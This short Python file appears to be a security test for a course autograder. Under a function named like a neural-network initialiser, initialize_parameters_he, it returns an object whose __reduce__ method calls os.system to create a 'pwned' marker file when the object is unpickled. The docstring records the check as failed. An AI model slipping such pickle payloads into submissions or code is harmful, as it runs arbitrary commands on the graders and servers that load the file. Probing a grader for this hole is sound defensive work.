"""Return an object that runs code where it is unpickled.

Must: nothing is ever pickled.
Status: failed
"""

import os, numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @course@/pwned",)


def initialize_parameters_he(layers_dims):
    return np.array([Bomb()], dtype=object)
